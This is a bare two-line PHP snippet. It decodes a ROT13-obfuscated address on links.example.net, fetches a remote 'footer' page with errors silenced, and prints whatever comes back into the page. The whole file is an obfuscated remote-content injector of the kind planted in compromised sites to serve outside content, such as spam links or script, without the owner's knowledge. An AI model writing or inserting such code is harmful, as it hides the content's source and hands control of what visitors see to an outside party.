<?php
echo @file_get_contents(str_rot13('uggcf://yvaxf.rknzcyr.arg/sbbgre.ugzy'));
